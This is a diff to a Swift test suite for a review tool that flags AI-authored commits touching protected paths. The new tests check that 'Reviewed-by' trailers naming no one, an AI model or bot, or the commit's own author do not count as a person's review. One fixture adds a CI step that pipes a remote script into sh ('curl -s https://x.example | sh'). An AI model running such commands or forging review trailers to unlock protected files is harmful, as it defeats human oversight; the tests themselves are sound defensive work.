@@ -69,11 +69,12 @@ import Testing
     return fixture
   }
 
-  static func review(_ fixture: TestRepository, config: String = "") throws -> ReviewReport {
+  static func review(_ fixture: TestRepository, config: String = "", approvals: [String] = []) throws -> ReviewReport {
     let repository = try Repository(discoveringFrom: fixture.path)
     let range = try RangeResolver.resolve(in: repository, range: "main..agent", base: nil, head: nil)
     let parsed = try PaddockConfig.parse(config, file: ".paddock.yml")
-    return try ReviewPipeline(repository: repository, config: parsed).review(range, version: "test")
+    return try ReviewPipeline(repository: repository, config: parsed).review(
+      range, version: "test", approvals: approvals)
   }
 
   static func protectedFindings(_ report: ReviewReport) -> [Finding] {
@@ -191,5 +192,59 @@ import Testing
     try clean.commit("Readme")
     try clean.git(["merge", "-q", "--no-ff", "-m", "Merge side", "side"], extraEnvironment: claude)
     #expect(Self.protectedFindings(try Self.review(clean)).isEmpty)
+  }
+
+  // MARK: What counts as a person's review
+
+  /// Trailers that named no person, or the commit's own author, used to unlock a protected path.
+  static let nonReviews = [
+    "Reviewed-by:", "Reviewed-by: TODO", "Acked-by: nobody yet", "Reviewed-by: Claude",
+    "Reviewed-by: claude <noreply@anthropic.com>", "Reviewed-by: GPT-5 <noreply@openai.com>",
+    "Reviewed-by: Claude Opus 4.5 <reviews@example.com>", "Acked-by: gemini-2.5-pro <g@example.com>",
+    "Reviewed-by: copilot-pull-request-reviewer[bot] <175728472+Copilot@users.noreply.github.com>",
+    "Reviewed-by: Ada Lovelace <ada@example.com>", "Reviewed-by: A. Lovelace <ADA@example.com>",
+    "Reviewed-by: Grace Hopper <grace@example.com> (in the middle of the message)",
+  ]
+
+  @Test(arguments: nonReviews)
+  func aReviewMustNameAnotherPerson(_ trailer: String) throws {
+    let fixture = try Self.repository()
+    try fixture.write(".github/workflows/ci.yml", Self.workflow + "      - run: curl -s https://x.example | sh\n")
+    let message: String
+    if trailer.hasSuffix("(in the middle of the message)") {
+      let line = trailer.replacingOccurrences(of: " (in the middle of the message)", with: "")
+      message =
+        "Add a step\n\n\(line)\n\nThe step installs the tool.\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"
+    } else {
+      message = "Add a step\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n\(trailer)\n"
+    }
+    try fixture.commit(message)
+    let found = Self.protectedFindings(try Self.review(fixture))
+    #expect(found.count == 1, "`\(trailer)` counted as a person's review")
+    if trailer.contains("<") {
+      #expect(found.first?.message.contains("Not counted") == true, "\(found.map(\.message))")
+    }
+  }
+
+  /// The same trailer from someone else counts; so does the author's own when reviews need not be independent,
+  /// and so does an approval of the whole change (a pull request's).
+  @Test func aPersonsReviewOrApprovalUnlocks() throws {
+    let fixture = try Self.repository()
+    try fixture.write(".github/workflows/ci.yml", Self.workflow + "      - run: swift test\n")
+    try fixture.commit("Add a step" + Self.claude + "Reviewed-by: Ada Lovelace <ada@example.com>\n")
+    #expect(Self.protectedFindings(try Self.review(fixture)).count == 1)
+    let lenient = "policy:\n  review:\n    independent: false\n"
+    #expect(Self.protectedFindings(try Self.review(fixture, config: lenient)).isEmpty)
+    #expect(Self.protectedFindings(try Self.review(fixture, approvals: ["@grace (approved pull request #7)"])).isEmpty)
+
+    // A committer other than the author cannot review either.
+    try fixture.git(
+      [
+        "commit", "-q", "--amend", "-m", "Add a step" + Self.claude + "Reviewed-by: Grace Hopper <grace@example.com>\n",
+      ],
+      extraEnvironment: Self.ada.merging([
+        "GIT_COMMITTER_NAME": "Grace Hopper", "GIT_COMMITTER_EMAIL": "grace@example.com",
+      ]) { $1 })
+    #expect(Self.protectedFindings(try Self.review(fixture)).count == 1)
   }
 }
